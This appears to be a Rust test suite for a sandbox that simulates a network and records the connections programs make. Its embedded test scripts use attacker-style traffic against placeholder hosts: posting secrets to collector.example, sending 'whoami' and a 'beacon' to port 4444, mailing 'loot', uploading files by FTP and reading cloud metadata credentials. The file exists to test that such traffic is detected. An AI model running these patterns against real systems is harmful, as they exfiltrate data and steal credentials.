//! The simulated network, as programs in real boxes see it, and what is recorded of them.

use serde_json::{Value, json};

use crate::support::{everybody, one, py, python, sh, stdout, with};

/// Runs a script in a simulated network that it trusts, as everybody.
fn simulated(script: &str) -> Vec<Value> {
    if !python() {
        return Vec::new();
    }
    let run = with(py(script), json!({"network": "simulate", "trusting": true}));
    everybody().into_iter().map(|who| one(who, run.clone())).collect()
}

/// All acts of a kind.
fn acts<'a>(answer: &'a Value, deed: &str) -> Vec<&'a Value> {
    answer["acts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|act| act["deed"] == deed)
        .collect()
}

/// The one conversation at a port.
fn conversation(answer: &Value, port: u16) -> &Value {
    let found: Vec<_> = acts(answer, "converse")
        .into_iter()
        .filter(|act| act["port"] == port)
        .collect();
    assert_eq!(found.len(), 1, "{port}: {}", answer["acts"]);
    found[0]
}

#[test]
fn names_have_addresses_and_web_servers_answer() {
    let script = "import urllib.request as u\n\
        print(u.urlopen('http://collector.example/a/install.sh').read().decode().splitlines()[0])\n\
        print(u.urlopen(u.Request('https://collector.example/x', b'k=secret', {'X-A': 'b'})).read().decode(), end='')";
    for answer in simulated(script) {
        assert_eq!(stdout(&answer), "#!/bin/sh\n{\"ok\":true}\n", "{answer}");
        let names: Vec<_> = acts(&answer, "resolve")
            .iter()
            .map(|act| act["name"].clone())
            .collect();
        assert!(
            names.iter().all(|name| name == "collector.example") && !names.is_empty(),
            "{names:?}"
        );
        let plain = conversation(&answer, 80);
        assert_eq!(
            (&plain["host"], &plain["language"]),
            (&json!("collector.example"), &json!("http"))
        );
        assert_eq!(plain["exchanges"][0]["target"], "/a/install.sh");
        let tls = conversation(&answer, 443);
        assert_eq!(tls["tls"]["server_name"], "collector.example");
        assert_eq!(tls["tls"]["accepted"], true);
        assert_eq!(tls["exchanges"][0]["body"]["head"], "k=secret");
        assert_eq!(tls["exchanges"][0]["answer"], "200");
        assert!(answer["effect"]["losses"].is_null(), "{answer}");
        assert!(acts(&answer, "packet").is_empty(), "{answer}");
    }
}

#[test]
fn whoever_does_not_trust_our_authority_is_recorded_refusing_it() {
    if !python() {
        return;
    }
    let script = "import ssl, socket\nc = ssl.create_default_context()\n\
        try: c.wrap_socket(socket.create_connection(('a.example', 443)), server_hostname='a.example')\nexcept ssl.SSLError as e: print(e.reason)";
    for who in everybody() {
        let answer = one(who, with(py(script), json!({"network": "simulate"})));
        assert_eq!(stdout(&answer), "CERTIFICATE_VERIFY_FAILED\n", "{answer}");
        let tls = &conversation(&answer, 443)["tls"];
        assert_eq!(
            (&tls["accepted"], &tls["alert"]),
            (&json!(false), &json!("unknown_ca"))
        );
    }
}

#[test]
fn anything_may_be_said_to_anybody() {
    let script = "import socket\n\
        s = socket.create_connection(('203.0.113.5', 4444)); s.sendall(b'\\x00\\xffwhoami'); s.close()\n\
        s = socket.create_connection(('2001:db8::99', 9001)); s.sendall(b'over v6'); s.close()\n\
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'log line', ('203.0.113.9', 514))\n\
        u.sendto(b'nobody', ('203.0.113.9', 515))\n\
        try: socket.create_connection(('203.0.113.5', 4445))\nexcept OSError as e: print(e.errno)";
    for answer in simulated(script) {
        assert_eq!(stdout(&answer), "111\n", "{answer}");
        let said = conversation(&answer, 4444);
        assert_eq!(said["sent"]["head"]["base64"], "AP93aG9hbWk=");
        assert_eq!(
            (&said["address"], &said["language"]),
            (&json!("203.0.113.5"), &json!("raw"))
        );
        assert_eq!(conversation(&answer, 9001)["sent"]["head"], "over v6");
        let datagram = conversation(&answer, 514);
        assert_eq!(
            (&datagram["transport"], &datagram["sent"]["head"]),
            (&json!("udp"), &json!("log line"))
        );
        let packets: Vec<_> = acts(&answer, "packet")
            .iter()
            .map(|act| act["to"]["ip"]["port"].clone())
            .collect();
        assert_eq!(packets, [515, 4445], "{answer}");
    }
}

#[test]
fn whoever_is_not_traced_reaches_any_port_at_the_second_try() {
    let script = "import socket, time\n\
        for turn in range(20):\n\
        \x20   try: s = socket.create_connection(('203.0.113.5', 4445)); break\n\
        \x20   except OSError as e: time.sleep(0.05)\n\
        s.sendall(b'beacon'); s.close(); print(turn > 0)";
    for answer in simulated(script) {
        assert_eq!(stdout(&answer), "True\n", "{answer}");
        assert_eq!(conversation(&answer, 4445)["sent"]["head"], "beacon");
    }
}

#[test]
fn a_quiet_command_has_no_acts() {
    for who in everybody() {
        let answer = one(who, with(sh("true"), json!({"network": "simulate"})));
        assert_eq!(answer["acts"], json!([]));
        assert!(answer["effect"]["contacts"].is_null(), "{answer}");
    }
}

#[test]
fn any_port_of_anybody_is_open_to_whoever_is_traced_and_tied_to_him() {
    if !python() {
        return;
    }
    let script = "import socket, os\n\
        def say(kind, to, what):\n\
        \x20   s = socket.socket(socket.AF_INET6 if ':' in to[0] else socket.AF_INET, kind); s.connect(to); s.sendall(what); s.close()\n\
        say(socket.SOCK_STREAM, ('203.0.113.5', 31337), b'first')\n\
        child = os.fork()\n\
        if child == 0:\n\
        \x20   say(socket.SOCK_STREAM, ('2001:db8::5', 31338), b'second'); say(socket.SOCK_DGRAM, ('203.0.113.6', 31339), b'third'); os._exit(0)\n\
        os.waitpid(child, 0)\n\
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'fourth', ('203.0.113.6', 31340))\n\
        s = socket.socket(); s.setblocking(False)\n\
        try: s.connect(('203.0.113.7', 31341))\nexcept BlockingIOError: print('later')\n\
        import select; select.select([], [s], [], 3); s.send(b'fifth'); s.close()\n\
        print(socket.create_connection(('a.example', 31342)).recv(100))";
    let run = with(py(script), json!({"network": "simulate", "trace": "full"}));
    for who in everybody() {
        let answer = one(who, run.clone());
        let greeting = "b'220 a.example ready\\r\\n'";
        assert_eq!(
            stdout(&answer),
            format!("later\n{greeting}\n"),
            "{who:?}: {answer}"
        );
        let tie = |port| {
            let act = conversation(&answer, port);
            (
                act["process"].as_u64().unwrap(),
                act["sent"]["head"].as_str().unwrap_or_default().to_owned(),
            )
        };
        let (main, _) = tie(31337);
        let (child, second) = tie(31338);
        assert_ne!(main, child);
        assert_eq!(second, "second");
        assert_eq!(tie(31339), (child, "third".to_owned()));
        assert_eq!(tie(31340), (main, "fourth".to_owned()));
        assert_eq!(tie(31341), (main, "fifth".to_owned()));
        assert_eq!(tie(31342), (main, String::new()));
        assert!(acts(&answer, "packet").is_empty(), "{answer}");
        let resolve = acts(&answer, "resolve");
        assert!(resolve.iter().all(|act| act["process"] == main), "{resolve:?}");
    }
}

#[test]
fn mail_files_and_sockets_of_the_standard_library_work() {
    let script = "import smtplib, ftplib, ssl, io, socket\n\
        m = smtplib.SMTP('mail.example', 587, timeout=5); m.starttls(context=ssl.create_default_context()); m.login('me', 'secret-1')\n\
        m.sendmail('a@a.example', ['b@b.example'], 'Subject: x\\r\\n\\r\\nloot'); m.quit()\n\
        m = smtplib.SMTP_SSL('mail.example', 465, timeout=5); m.login('me', 'secret-2'); m.quit()\n\
        f = ftplib.FTP('ftp.example', timeout=5); f.login('me', 'secret-3'); f.storbinary('STOR up.zip', io.BytesIO(b'file!'))\n\
        got = []; f.retrbinary('RETR down.txt', got.append); print(b''.join(got)); f.quit()\n\
        f = ftplib.FTP_TLS('ftp.example', timeout=5, context=ssl.create_default_context()); f.login('me', 'secret-4'); f.prot_p()\n\
        f.storbinary('STOR tls.zip', io.BytesIO(b'hidden')); print(f.nlst()); f.quit()\n\
        import http.client as h\n\
        c = h.HTTPConnection('169.254.169.254', timeout=5); c.request('GET', '/latest/meta-data/iam/security-credentials/builder')\n\
        print('ASIAEXAMPLE0000000001' in c.getresponse().read().decode())";
    for answer in simulated(script) {
        assert_eq!(stdout(&answer), "b'ok\\n'\n['readme.txt']\nTrue\n", "{answer}");
        let starttls = conversation(&answer, 587);
        assert_eq!(
            (&starttls["language"], &starttls["tls"]["accepted"]),
            (&json!("smtp"), &json!(true))
        );
        let verbs = |act: &Value| -> Vec<String> {
            let all = act["exchanges"].as_array().unwrap();
            all.iter()
                .map(|one| one["verb"].as_str().unwrap_or_default().to_owned())
                .collect()
        };
        assert!(verbs(starttls).contains(&"DATA".to_owned()), "{starttls}");
        assert!(starttls["sent"]["head"].as_str().unwrap().contains("loot"));
        assert!(verbs(conversation(&answer, 465)).contains(&"AUTH".to_owned()));
        let ftp: Vec<_> = acts(&answer, "converse")
            .into_iter()
            .filter(|act| act["port"] == 21)
            .collect();
        assert_eq!(ftp.len(), 2);
        assert!(verbs(ftp[1]).contains(&"STOR".to_owned()), "{}", ftp[1]);
        let data: Vec<_> = acts(&answer, "converse")
            .into_iter()
            .filter(|act| act["language"] == "ftp-data")
            .map(|act| act["sent"]["head"].as_str().unwrap_or_default())
            .collect();
        assert!(data.contains(&"file!") && data.contains(&"hidden"), "{data:?}");
        assert_eq!(conversation(&answer, 80)["language"], "metadata");
    }
}

#[test]
fn http2_is_spoken_with_curl() {
    if !std::path::Path::new("/usr/bin/curl").exists() {
        eprintln!("SKIPPED: /usr/bin/curl is missing");
        return;
    }
    let script = "curl -sS --http2 -d key=secret -w '%{http_version} %{http_code}\\n' https://api.example/v1/upload\n\
        head -c 3000000 /dev/zero | curl -sS --http2 --data-binary @- -o /dev/null -w '%{http_version} %{http_code}\\n' https://api.example/big\n\
        curl -sS --http2-prior-knowledge -o /dev/null -w '%{http_version} %{http_code}\\n' http://api.example/plain.json\n\
        curl -sS --http1.1 -o /dev/null -w '%{http_version} %{http_code}\\n' https://203.0.113.77/x.txt";
    for who in everybody() {
        let answer = one(
            who,
            with(sh(script), json!({"network": "simulate", "trusting": true})),
        );
        assert_eq!(
            stdout(&answer),
            "{\"ok\":true}\n2 200\n2 200\n2 200\n1.1 200\n",
            "{answer}"
        );
        let said: Vec<_> = acts(&answer, "converse");
        assert_eq!(said.len(), 4, "{answer}");
        assert_eq!(said[0]["tls"]["offered"][0], "h2");
        let question = &said[0]["exchanges"][0];
        assert_eq!(
            (&question["verb"], &question["target"]),
            (&json!("POST"), &json!("/v1/upload"))
        );
        assert_eq!(
            (&question["host"], &question["body"]["head"]),
            (&json!("api.example"), &json!("key=secret"))
        );
        assert_eq!(said[1]["exchanges"][0]["body"]["total"], 3_000_000);
        assert_eq!(said[2]["language"], "http");
        assert_eq!(said[3]["address"], "203.0.113.77");
    }
}

#[test]
fn openssl_finds_nothing_wrong_with_our_certificates() {
    if !std::path::Path::new("/usr/bin/openssl").exists() {
        eprintln!("SKIPPED: /usr/bin/openssl is missing");
        return;
    }
    let ask = |to: &str, more: &str| {
        format!(
            "echo | openssl s_client -connect {to} -CAfile $SSL_CERT_FILE -x509_strict -verify_return_error -brief {more} 2>&1 | grep -E 'Verification|Protocol'\n"
        )
    };
    let script = ask(
        "a.example:443",
        "-servername a.example -verify_hostname a.example",
    ) + &ask("203.0.113.9:8443", "-tls1_2 -verify_ip 203.0.113.9")
        + &ask("'[2001:db8::9]:443'", "-verify_ip 2001:db8::9");
    for who in everybody() {
        let answer = one(
            who,
            with(sh(&script), json!({"network": "simulate", "trusting": true})),
        );
        let expected = "Protocol version: TLSv1.3\nVerification: OK\nProtocol version: TLSv1.2\nVerification: OK\n\
            Protocol version: TLSv1.3\nVerification: OK\n";
        assert_eq!(stdout(&answer), expected, "{answer}");
        let names: Vec<_> = acts(&answer, "converse")
            .iter()
            .map(|act| act["tls"]["server_name"].clone())
            .collect();
        assert_eq!(names, [json!("a.example"), json!(null), json!(null)]);
    }
}

#[test]
fn somebody_may_be_let_through_and_nobody_else_is() {
    if !python() {
        return;
    }
    let script = "import socket\n\
        def say(host, port):\n\
        \x20   s = socket.create_connection((host, port), 5); s.sendall(b'hello\\n'); s.settimeout(5); print(s.makefile('rb').readline()); s.close()\n\
        say('real.example', 8000)\n\
        try: say('other.example', 8000)\nexcept OSError as e: print('nobody')";
    let run = with(
        py(script),
        json!({"network": "simulate", "allow": ["real.example", 8000]}),
    );
    for who in everybody() {
        let answer = one(who, run.clone());
        assert_eq!(stdout(&answer), "b'really: hello\\n'\nnobody\n", "{answer}");
        let said = acts(&answer, "converse");
        assert_eq!(said[0]["language"], "relayed");
        assert_eq!(said[0]["exchanges"][0]["body"]["head"], "really: hello\n");
        assert_eq!(said[1]["language"], "raw");
    }
}

#[test]
fn a_silent_network_hears_ipv6_too() {
    if !python() {
        return;
    }
    let script = "import socket\nu = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
        try: u.sendto(b'x', ('2001:db8::9', 514)); print('sent')\nexcept OSError as e: print(e.errno)";
    for who in everybody() {
        let answer = one(who, with(py(script), json!({"network": "silent"})));
        if stdout(&answer) != "sent\n" {
            eprintln!("SKIPPED: this machine has no IPv6");
            return;
        }
        let contacts = answer["effect"]["contacts"].to_string();
        assert!(contacts.contains("2001:db8::9"), "{contacts}");
        assert_eq!(
            answer["effect"]["contacts"].as_array().unwrap().len(),
            1,
            "{contacts}"
        );
    }
}

#[test]
fn echoes_come_back_and_what_they_carry_is_kept() {
    let script = "import socket\ntry: s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\n\
        except OSError as e: print(e); raise SystemExit\n\
        s.settimeout(3); s.sendto(b'\\x08\\x00\\x00\\x00\\x00\\x00\\x00\\x01by echo', ('203.0.113.8', 0)); print(s.recv(100)[8:])";
    for answer in simulated(script) {
        if stdout(&answer) != "b'by echo'\n" {
            eprintln!("SKIPPED: no echoes here: {}", stdout(&answer));
            continue;
        }
        let said = acts(&answer, "converse");
        assert_eq!(
            (&said[0]["transport"], &said[0]["sent"]["head"]),
            (&json!("icmp"), &json!("by echo"))
        );
        assert!(acts(&answer, "packet").is_empty(), "{answer}");
    }
}

#[test]
fn many_processes_that_call_the_same_address_are_told_apart() {
    if !python() {
        return;
    }
    let script = "import os, socket\nkids = []\n\
        for turn in range(6):\n\
        \x20   kid = os.fork()\n\
        \x20   if kid == 0:\n\
        \x20       for call in range(10):\n\
        \x20           s = socket.create_connection(('203.0.113.5', 7000)); s.sendall(b'%d' % os.getpid()); s.close()\n\
        \x20           u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'%d' % os.getpid(), ('203.0.113.5', 7001)); u.close()\n\
        \x20       os._exit(0)\n\
        \x20   kids.append(kid)\n\
        for kid in kids: os.waitpid(kid, 0)";
    let answer = one(
        crate::support::Who::Me,
        with(py(script), json!({"network": "simulate", "trace": "light"})),
    );
    let processes = answer["trace"]["processes"].as_array().unwrap();
    let mut said = 0;
    for act in acts(&answer, "converse") {
        let process = &processes[usize::try_from(act["process"].as_u64().unwrap()).unwrap()];
        assert_eq!(act["sent"]["head"], process["pid"].to_string(), "{act}");
        said += act["times"].as_u64().unwrap_or(1);
    }
    assert_eq!(said, 120);
}
